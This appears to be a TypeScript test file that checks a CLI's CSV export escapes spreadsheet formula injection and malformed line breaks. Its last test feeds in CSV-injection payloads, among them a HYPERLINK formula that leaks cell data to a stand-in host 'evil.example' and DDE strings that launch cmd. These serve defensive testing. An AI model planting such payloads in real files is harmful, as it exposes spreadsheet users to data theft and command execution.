// D5: CSV cells from the log could start a formula, and a bare CR split a row.
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { auditStream } from '../../src/cli/audit-run.js';
import { formatCsv } from '../../src/cli/format.js';
import { csvField } from '../../src/cli/text.js';
import { writeSupervisionCsv } from '../../src/interchange/index.js';
import { AS_OF, sampleLines } from './helpers.js';

/** RFC 4180 records, read the way a strict reader does (quoted fields may hold commas, quotes, CR and LF). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') rows.push([...row, field]), (row = []), (field = ''), i++;
    else if (c === '\r' || c === '\n') throw new Error(`bare ${JSON.stringify(c)} outside quotes at ${i}`);
    else field += c;
  }
  rows.push([...row, field]);
  return rows;
}

describe('D5: CSV is RFC 4180, opens as UTF-8 in Excel and WPS, and never carries a formula', () => {
  it('fields that start like a formula get a leading apostrophe; CR, LF, comma and quote are quoted', () => {
    expect(['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\r=1', 'plain', '—', 'a,b', 'say "hi"', 'a\nb', 'a\rb'].map(csvField)).toEqual([
      "'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", `"'\r=1"`, 'plain', '—', '"a,b"', '"say ""hi"""', '"a\nb"', '"a\rb"',
    ]);
    expect(csvField(-3)).toBe('-3');
  });

  it('the e-supervision CSV goes through the same field writer: a department from an export cannot carry a formula', async () => {
    const chunks: string[] = [];
    const record = { caseId: 'X-1', supervisionId: 'X-1/TC-ON-TIME', ruleId: 'TC-ON-TIME', warningTypeCode: '2', warningType: '报警', statusAt: '2025-10-31T18:00:00+08:00', description: '超期', descriptionEn: 'late', department: '=HYPERLINK("x")', matterCode: '-1+1', regulation: 'timed-completion', severity: 'violation' } as const;
    await writeSupervisionCsv([record], (chunk) => void chunks.push(chunk));
    expect(chunks[1]).toContain(`,"'=HYPERLINK(""x"")",'-1+1,`);
  });

  it("an audit whose departments and ids carry the review's payloads gives a CSV every row of which has the header's number of fields", async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\r=1+1', 'a\nb,c"d', '+1'];
    const lines = sampleLines(payloads.length).map((line, i) => {
      const c = JSON.parse(line);
      return JSON.stringify({ ...c, matter: { ...c.matter, department: payloads[i] } });
    });
    const summary = await auditStream(Readable.from([Buffer.from([...lines, '{"id":"=1+1"'].join('\n'))]), { profile: 'city-12', asOf: AS_OF, workers: 1 });
    const csv = formatCsv(summary);
    expect(csv.startsWith('\uFEFFsection,key,')).toBe(true);
    const rows = readCsv(csv.slice(1));
    // The header: section, key, severity, count, cases, violations, warnings, detail, then the 14 published figures.
    expect(rows[0]).toHaveLength(22);
    expect(rows.every((row) => row.length === 22)).toBe(true);
    const departments = rows.filter((row) => row[0] === 'department').map((row) => row[1]!);
    expect(departments.sort()).toEqual(payloads.map((p) => (/^[=+\-@\t\r]/.test(p) ? `'${p}` : p)).sort());
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});
